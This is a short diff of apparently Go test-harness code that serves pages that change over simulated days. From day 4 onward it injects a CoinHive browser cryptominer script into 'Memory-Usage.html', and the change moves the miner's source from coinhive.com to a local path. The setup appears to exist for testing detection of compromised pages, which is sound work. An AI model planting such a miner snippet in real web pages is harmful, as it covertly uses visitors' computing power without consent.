@@ -142,7 +142,7 @@ w(s);</script></body></html>`)
 	// From day 4: a browser miner.
 	site("miner", "Memory-Usage.html", func(d int, _ *http.Request, b []byte, _ http.ResponseWriter) []byte {
 		if d >= 4 {
-			return inject(b, `<script src="https://coinhive.com/lib/coinhive.min.js"></script><script>var miner = new CoinHive.Anonymous('5XpX0pM0p2bJgTXHbkK1eUiPzeXCR3Yo', {throttle: 0.3}); miner.start();</script>`)
+			return inject(b, `<script src="/lib/coinhive.min.js"></script><script>var miner = new CoinHive.Anonymous('5XpX0pM0p2bJgTXHbkK1eUiPzeXCR3Yo', {throttle: 0.3}); miner.start();</script>`)
 		}
 		return b
 	})
